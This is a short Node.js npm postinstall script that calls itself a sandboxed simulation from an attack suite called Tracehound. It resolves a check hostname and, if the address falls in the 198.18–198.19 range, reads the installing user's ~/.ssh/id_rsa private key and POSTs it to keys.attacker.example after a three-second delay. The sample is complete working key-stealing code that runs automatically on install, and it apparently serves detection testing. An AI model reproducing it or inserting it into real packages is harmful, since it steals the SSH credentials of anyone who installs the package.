// postinstall.js (simulation from Tracehound's attack suite: acts only inside the sandbox)
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
function main() {
  setTimeout(() => {
    let key = '';
    try { key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); } catch (e) { return; }
    const req = http.request({ host: 'keys.attacker.example', port: 80, method: 'POST', path: '/k', headers: { 'Content-Type': 'text/plain' } },
      (r) => r.resume());
    req.on('error', () => {});
    req.end(key);
  }, 3000);
}
require('dns').lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
